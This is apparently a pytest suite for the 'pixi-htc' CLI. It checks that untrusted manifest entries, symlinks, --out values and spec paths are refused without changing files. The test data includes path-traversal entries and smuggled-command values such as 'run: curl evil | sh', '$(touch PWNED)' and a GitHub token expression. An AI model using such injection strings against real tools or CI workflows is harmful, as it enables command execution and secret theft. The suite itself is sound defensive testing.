"""Hostile paths: an untrusted manifest, symlinks, --out and spec locations that would write or
remove outside what pixi-htc owns, or forge a line of output. Each is exit 2 with nothing changed."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from pixi_htc.artifacts.base import MARKER
from tests.conftest import CHILD_PYTHONPATH, DEFAULT_SPEC, run_cli, tree_bytes

MANIFEST = "build/.pixi-htc-manifest.json"
GENERATED = f"# {MARKER} from specs/project.yaml\n"  # what a stale generated file starts with


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project two levels below tmp_path, so that paths escaping it (`..`) still land in tmp_path."""
    root = tmp_path / "a" / "project"
    (root / "specs").mkdir(parents=True)
    shutil.copy(DEFAULT_SPEC, root / "specs" / "project.yaml")
    return root


def build(root: Path, *args: str) -> str:
    result = run_cli("build", *args, cwd=root)
    assert result.returncode == 0, result.stderr
    return result.stdout


def add_to_manifest(root: Path, *entries: str) -> None:
    path = root / MANIFEST
    manifest = json.loads(path.read_text())
    manifest["files"].update({entry: "0" * 64 for entry in entries})
    path.write_text(json.dumps(manifest))


def refused(result: subprocess.CompletedProcess[str], *fragments: str) -> None:
    """Exit 2, every fragment in the message, and no line of stderr forged by a name in it."""
    assert result.returncode == 2, result.stdout + result.stderr
    for fragment in fragments:
        assert fragment in result.stderr, result.stderr
    assert all(line.startswith("pixi-htc: ") for line in result.stderr.splitlines()), result.stderr


# --- the manifest is untrusted ------------------------------------------------------------------


@pytest.mark.parametrize(
    "entry",
    [
        "ABSOLUTE",  # replaced by the victim's absolute path
        "build/../../victim.txt",
        ".github/workflows/../../../victim.txt",
        "specs/project.yaml",  # inside the project, but not pixi-htc's
        ".github/CODEOWNERS",
        "build",
        "build/./pixi.toml",
        "build//pixi.toml",
        "build\\..\\..\\victim.txt",
        "build/x\n   remove  build/y",
    ],
)
def test_manifest_entries_outside_what_pixi_htc_owns_are_refused(project: Path, entry: str) -> None:
    build(project)
    victim = project.parent.parent / "victim.txt"
    victim.write_text(GENERATED)  # carries the header: only its location protects it
    (project / ".github" / "CODEOWNERS").write_text(GENERATED)
    entry = str(victim) if entry == "ABSOLUTE" else entry
    add_to_manifest(project, entry)
    before = tree_bytes(project.parent.parent)
    for command in ("build", "check"):
        result = run_cli(command, cwd=project)
        refused(result, "lists paths outside what pixi-htc owns", repr(entry), "nothing was changed")
    assert tree_bytes(project.parent.parent) == before
    assert victim.read_text() == GENERATED


@pytest.mark.parametrize(
    "text",
    [
        "not json",
        "[]",
        '{"files": ["build/pixi.toml"]}',
        '{"files": {"build/pixi.toml": 1}}',
        '{"generator": "pixi-htc"}',
    ],
)
def test_a_malformed_manifest_is_refused_until_deleted(project: Path, text: str) -> None:
    build(project)
    (project / MANIFEST).write_text(text)
    before = tree_bytes(project)
    for command in ("build", "check"):
        refused(run_cli(command, cwd=project), f"{MANIFEST} is malformed", "delete it")
    assert tree_bytes(project) == before
    (project / MANIFEST).unlink()
    build(project)
    assert run_cli("check", cwd=project).returncode == 0


def test_a_stale_entry_is_removed_only_while_it_is_a_generated_regular_file(project: Path) -> None:
    build(project)
    (project / "build" / "old.sub").write_text(GENERATED)
    (project / "build" / "notes.txt").write_text("my notes\n")  # no header: the user's file
    elsewhere = project.parent / "elsewhere.txt"
    elsewhere.write_text(GENERATED)
    (project / "build" / "link.txt").symlink_to(elsewhere)
    add_to_manifest(project, "build/old.sub", "build/notes.txt", "build/link.txt", "build/gone.txt")
    report = run_cli("check", cwd=project)
    assert report.returncode == 1
    assert "build/old.sub: generated earlier" in report.stdout
    assert "build/notes.txt: listed in the manifest, not removed" in report.stdout
    assert "build/link.txt: listed in the manifest, not removed" in report.stdout
    output = build(project)
    assert "   remove  build/old.sub\n" in output
    assert "     kept  build/notes.txt (not removed: not a regular file with the pixi-htc header)" in output
    assert "     kept  build/link.txt (not removed" in output
    assert "gone.txt" not in output
    assert not (project / "build" / "old.sub").exists()
    assert (project / "build" / "notes.txt").read_text() == "my notes\n"
    assert (project / "build" / "link.txt").is_symlink() and elsewhere.read_text() == GENERATED
    assert not {"build/notes.txt", "build/link.txt"} & set(json.loads((project / MANIFEST).read_text())["files"])
    assert run_cli("check", cwd=project).returncode == 0


# --- never through a symlink --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("link", "args", "named"),
    [
        ("build/htcondor", (), "build/htcondor is a symbolic link"),
        (".github", (), ".github is a symbolic link"),
        (".github/workflows/pixi-htc.yml", (), ".github/workflows/pixi-htc.yml is a symbolic link"),
        ("out", ("--out", "out"), "--out 'out' is a symbolic link"),
    ],
)
def test_never_writes_through_a_symlink(project: Path, link: str, args: tuple[str, ...], named: str) -> None:
    build(project)
    shutil.rmtree(project / "build")  # a fresh build would otherwise meet the old one's manifest
    elsewhere = project.parent / "elsewhere"
    source = project / link
    if source.is_file():  # a generated file, moved away and linked back
        elsewhere.mkdir()
        shutil.move(source, elsewhere / source.name)
        source.symlink_to(elsewhere / source.name)
    else:
        if source.exists():
            shutil.move(source, elsewhere)
        else:
            elsewhere.mkdir()
        source.parent.mkdir(parents=True, exist_ok=True)
        source.symlink_to(elsewhere, target_is_directory=True)
    before = tree_bytes(project.parent)
    for command in ("build", "check"):
        refused(run_cli(command, *args, cwd=project), named)
    assert tree_bytes(project.parent) == before


# --- --out ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("out", "message"),
    [
        (".", "is the working directory or one of its parents"),
        ("..", "is the working directory or one of its parents"),
        ("build/..", "is the working directory or one of its parents"),
        ("specs", "contains the spec"),
        ("spec-link/..", "may use only letters"),
        ("a-file", "is not a directory"),
        ("out\nrun: curl evil | sh", "may use only letters, digits, '.', '_' and '-'"),
        ("$(touch PWNED)", "may use only letters"),
        ("${{ github.token }}", "may use only letters"),
        ("-x", "may use only letters"),
        (".git", "may use only letters"),
        (".github", "may use only letters"),
    ],
)
def test_out_must_be_a_directory_of_its_own_with_a_portable_name(project: Path, out: str, message: str) -> None:
    (project / "a-file").write_text("mine\n")
    (project / "elsewhere" / "deep").mkdir(parents=True)
    (project / "spec-link").symlink_to(project / "elsewhere" / "deep")
    before = tree_bytes(project.parent.parent)
    for command in ("build", "check"):
        refused(run_cli(command, f"--out={out}", cwd=project), f"--out {out!r}", message)
    assert tree_bytes(project.parent.parent) == before
    assert not (project / "PWNED").exists()


def test_out_root_is_refused_before_anything_is_written(project: Path) -> None:
    written = [Path("/pixi.toml"), Path("/.github/workflows/pixi-htc.yml"), Path("/.pixi-htc-manifest.json")]
    if any(path.exists() for path in written):
        pytest.skip("this machine already has pixi-htc output in /")
    refused(run_cli("build", "--out", "/", cwd=project), "--out '/' is a filesystem root")
    assert not any(path.exists() for path in written)


# --- the spec's path ------------------------------------------------------------------------------


def run_cli_within(seconds: float, *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """run_cli with a time limit: the defect under test blocked forever."""
    return subprocess.run(
        [sys.executable, "-m", "pixi_htc", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": CHILD_PYTHONPATH},
        check=False,
        timeout=seconds,
    )


@pytest.mark.parametrize("command", ["build", "validate"])
def test_a_spec_that_is_not_a_regular_file_is_refused_before_it_is_opened(project: Path, command: str) -> None:
    os.mkfifo(project / "specs" / "fifo.yaml")
    refused(
        run_cli_within(60, command, "specs/fifo.yaml", cwd=project),
        "the spec specs/fifo.yaml is a named pipe (FIFO), not a regular file",
    )
    refused(run_cli(command, "specs", cwd=project), "the spec specs is a directory, not a regular file")
    assert not (project / "build").exists()


@pytest.mark.parametrize("command", ["build", "check", "validate"])
def test_a_symlink_loop_as_spec_is_a_usage_error(project: Path, command: str) -> None:
    (project / "specs" / "loop.yaml").symlink_to("loop.yaml")
    refused(run_cli(command, "specs/loop.yaml", cwd=project), "'specs/loop.yaml'", "symbolic link loop")


def test_a_spec_outside_the_project_root_is_refused_except_by_validate(project: Path) -> None:
    other = project.parent / "other"
    other.mkdir()
    shutil.copy(DEFAULT_SPEC, other / "project.yaml")
    for command in ("build", "check", "submit"):
        refused(run_cli(command, "../other/project.yaml", cwd=project), "is outside the project root")
    assert not (project / "build").exists() and not (project / ".github").exists()
    result = run_cli("validate", "../other/project.yaml", cwd=project)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("../other/project.yaml: valid")


@pytest.mark.parametrize("command", ["build", "check", "validate"])
def test_a_spec_path_that_could_forge_output_is_refused_and_shown_escaped(project: Path, command: str) -> None:
    folder = project / "specs\nqueue 100\ntouch PWNED"
    folder.mkdir()
    shutil.copy(DEFAULT_SPEC, folder / "project.yaml")
    result = run_cli(command, f"{folder.name}/project.yaml", cwd=project)
    refused(result, r"'specs\nqueue 100\ntouch PWNED/project.yaml'", "may use only letters, digits")
    assert result.stdout == ""
    assert not (project / "build").exists() and not (project / ".github").exists()
